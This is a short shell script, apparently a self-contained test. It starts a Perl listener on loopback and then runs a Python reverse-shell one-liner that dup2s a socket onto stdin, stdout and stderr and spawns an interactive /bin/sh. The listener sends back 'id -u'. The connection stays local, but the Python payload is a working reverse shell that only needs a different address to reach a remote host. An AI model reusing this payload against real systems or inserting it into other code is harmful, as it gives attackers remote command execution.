#!/bin/sh
# Python connects to a listener (here the machine itself) and puts a shell on the connection.
set -eu
/usr/bin/perl -MSocket -e '
    socket(my $s, PF_INET, SOCK_STREAM, 6) or die;
    bind($s, sockaddr_in(0, INADDR_LOOPBACK)) or die;
    listen($s, 1) or die;
    my ($port) = sockaddr_in(getsockname($s));
    open(my $f, ">", "port.new") or die; print $f "$port\n"; close($f); rename("port.new", "port");
    accept(my $c, $s) or die;
    syswrite($c, "id -u\nexit\n");
    while (sysread($c, my $part, 4096)) { }
' &
while [ ! -e port ]; do sleep 0.05; done

/usr/bin/python3 -c '
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
' "$(cat port)" || true
wait
